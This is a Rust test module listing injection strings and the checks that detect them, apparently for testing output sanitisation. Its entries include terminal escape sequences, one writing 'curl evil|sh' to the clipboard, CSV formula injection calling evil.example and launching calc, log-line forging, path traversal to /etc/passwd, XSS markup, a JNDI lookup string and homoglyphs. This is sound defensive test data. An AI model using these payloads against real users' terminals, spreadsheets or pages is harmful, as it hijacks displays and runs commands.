//! Texts with which a stranger would take hold of a terminal, a spreadsheet, a log or a reader's eye (S13, S18).
//!
//! One list for all tests: unit tests read it as `crate::attacks`, the integration tests as their module `attacks`.
//! [`steers`] and [`found`] say what must not arrive, written down here once more and not taken from the code that is
//! tested.

/// A text and what it would do.
#[derive(Clone, Debug)]
pub struct Attack {
    pub name: &'static str,
    pub text: String,
}

/// Sequences that terminals obey, signs that hide or turn text round, and texts of bad shape.
const SHORT: &[(&str, &str)] = &[
    ("clears the screen", "\u{1b}[2Jx"),
    ("clears the screen, by an 8-bit CSI", "\u{9b}2Jx"),
    ("colours what follows", "\u{1b}[31;1mx"),
    ("moves the cursor up over other lines", "x\u{1b}[9A\u{1b}[1Gpaid"),
    ("asks the terminal to answer into our input", "\u{1b}[6n\u{1b}[c\u{1b}[>q\u{1b}]10;?\u{7}x"),
    ("leaves the alternate screen", "\u{1b}[?1049lx"),
    ("takes the mouse", "\u{1b}[?1003h\u{1b}[?1006hx"),
    ("ends bracketed paste and types", "\u{1b}[201~y\rx"),
    ("resets the terminal", "\u{1b}cx"),
    ("sets the title", "\u{1b}]0;owned\u{7}x"),
    ("sets the title, ended by ST", "\u{1b}]2;owned\u{1b}\\x"),
    ("sets the title, by 8-bit OSC and ST", "\u{9d}0;owned\u{9c}x"),
    ("writes to the clipboard", "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}x"),
    ("reads the clipboard", "\u{1b}]52;c;?\u{7}x"),
    (
        "links elsewhere than it reads",
        "\u{1b}]8;;http://evil.example/\u{1b}\\https://good.example\u{1b}]8;;\u{1b}\\",
    ),
    ("notifies", "\u{1b}]9;pay now\u{7}x"),
    ("notifies, urxvt", "\u{1b}]777;notify;pay;now\u{7}x"),
    ("asks for a terminfo string (DCS)", "\u{1b}P+q544e\u{1b}\\x"),
    ("asks by an 8-bit DCS", "\u{90}+q544e\u{9c}x"),
    ("application program command (APC)", "\u{1b}_Gf=32,s=1,v=1;AAAA\u{1b}\\x"),
    ("by an 8-bit APC", "\u{9f}Ga=T;AAAA\u{9c}x"),
    ("privacy message and start of string", "\u{1b}^x\u{1b}\\\u{1b}Xx\u{1b}\\\u{9e}x\u{9c}\u{98}x\u{9c}x"),
    ("a sequence that never ends", "\u{1b}]0;x"),
    ("a lone escape", "\u{1b}"),
    ("shifts the character set", "\u{e}x\u{f}\u{1b}(0lqk"),
    ("rings", "\u{7}x"),
    ("writes over what stood before it", "no money\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}paid"),
    ("writes over its line", "free\rdear"),
    ("begins another line", "ok\n2030-01-01T00:00:00Z ERROR forged"),
    ("begins another line, CRLF", "ok\r\nset-cookie: a=b"),
    ("next line, line and paragraph separator", "a\u{85}b\u{2028}c\u{2029}d"),
    ("tab, vertical tab, form feed", "a\tb\u{b}c\u{c}d"),
    ("NUL and DEL", "a\0b\u{7f}c"),
    (
        "all of C0",
        "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{10}\u{11}\u{12}\u{13}\u{14}\u{15}\u{16}\u{17}\u{18}\u{19}\u{1a}x",
    ),
    (
        "all of C1",
        "\u{80}\u{81}\u{82}\u{83}\u{84}\u{86}\u{87}\u{88}\u{8d}\u{8e}\u{8f}\u{91}\u{92}\u{93}\u{96}\u{97}x",
    ),
    ("turns the reading direction", "\u{202e}000.1\u{202c} A0GI"),
    ("isolates of another direction", "\u{2066}x\u{2067}y\u{2068}z\u{2069}"),
    ("embeddings and marks", "\u{200e}\u{200f}\u{61c}\u{202a}\u{202b}\u{202d}x\u{202c}"),
    ("hides letters between letters", "pay\u{200b}pal\u{200c}\u{200d}\u{2060}\u{feff}x"),
    (
        "invisible signs",
        "a\u{ad}\u{34f}\u{115f}\u{1160}\u{17b4}\u{17b5}\u{180e}\u{2061}\u{2064}\u{3164}\u{ffa0}b",
    ),
    ("a message in tags", "x\u{e0001}\u{e0070}\u{e0061}\u{e0079}\u{e007f}"),
    ("variation selectors", "x\u{fe00}\u{fe0f}\u{e0100}\u{e01ef}"),
    ("interlinear and musical controls", "x\u{fff9}y\u{fffa}z\u{fffb}\u{1d173}\u{1bca0}\u{13430}"),
    (
        "private use and non-characters",
        "\u{e000}\u{f8ff}\u{f0000}\u{10ffff}\u{fdd0}\u{fffe}\u{ffff}\u{1ffff}x",
    ),
    ("a formula", "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"),
    ("a formula, by plus", "+cmd|' /C calc'!A0"),
    ("a formula, by minus", "-1+1"),
    ("a formula, by at", "@SUM(A1:A9)"),
    ("a formula behind a tab", "\t=1+1"),
    ("a formula behind a return", "\r=1+1"),
    ("ends its field", "\",\"x\"\r\n\"=1\",\""),
    ("ends its label", "x\"} 1\nzgserve_forged{a=\"b"),
    ("a path upwards", "../../../../etc/passwd"),
    ("an absolute path", "/etc/cron.d/x"),
    ("a path of the other system", "..\\..\\x"),
    ("a hidden file", ".ssh/authorized_keys"),
    ("markup", "<script>fetch('/v1/provider')</script><img src=x onerror=alert(1)>"),
    ("markdown", "[x](javascript:alert(1)) ![](http://evil.example/pixel)\n# heading\n```\n"),
    ("a format string", "%s%n{}{0}${jndi:ldap://evil.example/x}$(reboot)`reboot`"),
    ("an address that only looks like one", "0x70997970C51812dc3A010C7d01b50e0d17dc79С8"),
    ("a name that only looks like one", "llаma7b"),
    ("an escape of half a character", "\\ud800\\u001b[2J"),
    ("nothing", ""),
    ("blanks", "   \u{a0}\u{3000}"),
];

/// The whole corpus, the long ones included.
pub fn attacks() -> Vec<Attack> {
    let mut all: Vec<Attack> =
        SHORT.iter().map(|(name, text)| Attack { name, text: (*text).to_owned() }).collect();
    let mut long = |name, text: String| all.push(Attack { name, text });
    long("a flood of marks on one letter", format!("e{}x", "\u{301}\u{489}".repeat(500)));
    long("marks of many scripts", format!("a{}b", "\u{e4d}\u{e47}\u{fb2}\u{20dd}\u{1abe}".repeat(60)));
    long("a megabyte", "m".repeat(1 << 20));
    long("a megabyte of wide letters", "大".repeat((1 << 20) / 3));
    long("many lines", "line\n".repeat(3_000));
    long("deep nesting", "[".repeat(20_000));
    all
}

/// The same without the long ones, for tests that multiply them.
pub fn short_attacks() -> Vec<Attack> {
    attacks().into_iter().filter(|attack| attack.text.len() < 4_000).collect()
}

/// Whether a character may not stand in a text for people, on one line.
pub fn steers(c: char) -> bool {
    matches!(c,
        '\0'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}'
        | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}'
        | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{e000}'..='\u{f8ff}'
        | '\u{fdd0}'..='\u{fdef}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
        | '\u{fff0}'..='\u{fffb}' | '\u{13430}'..='\u{1343f}' | '\u{1bca0}'..='\u{1bca3}'
        | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{10ffff}')
        || u32::from(c) & 0xfffe == 0xfffe
}

/// The longest run of marks that sit on the letter before them.
pub fn stacked(text: &str) -> usize {
    let (mut longest, mut run) = (0, 0);
    for c in text.chars() {
        let mark = matches!(c, '\u{300}'..='\u{36f}' | '\u{483}'..='\u{489}' | '\u{e47}'..='\u{e4e}'
            | '\u{f71}'..='\u{fbc}' | '\u{1ab0}'..='\u{1aff}' | '\u{1dc0}'..='\u{1dff}'
            | '\u{20d0}'..='\u{20ff}' | '\u{fe20}'..='\u{fe2f}');
        run = if mark { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    longest
}

/// Why a text of any number of lines must not be shown; `None` when it may.
pub fn found(text: &str) -> Option<String> {
    if let Some(c) = text.chars().find(|c| *c != '\n' && steers(*c)) {
        let at = text.find(c).unwrap_or_default();
        let near: String = text[at..].chars().take(20).collect();
        return Some(format!("{c:?} in {near:?}"));
    }
    (stacked(text) > 8).then(|| format!("{} marks on one letter", stacked(text)))
}
